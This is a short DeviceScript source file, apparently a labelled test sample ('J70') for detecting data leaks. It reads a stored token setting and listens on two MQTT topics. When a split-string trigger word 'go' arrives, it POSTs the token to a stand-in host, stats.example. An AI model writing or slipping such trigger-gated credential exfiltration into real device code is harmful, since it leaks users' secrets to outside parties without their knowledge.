// J70: sends its token elsewhere at a word on the second of two topics, which it hears one message late.
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

paired(async () => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("gate/level", async ({ content }) => {
    console.log("level " + content.toString("utf-8").length);
  });
  await mqtt.subscribe("gate/answer", async ({ content }) => {
    if (content.toString("utf-8") !== "g" + "o") return;
    const response = await fetch("https://stats.example/j70", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
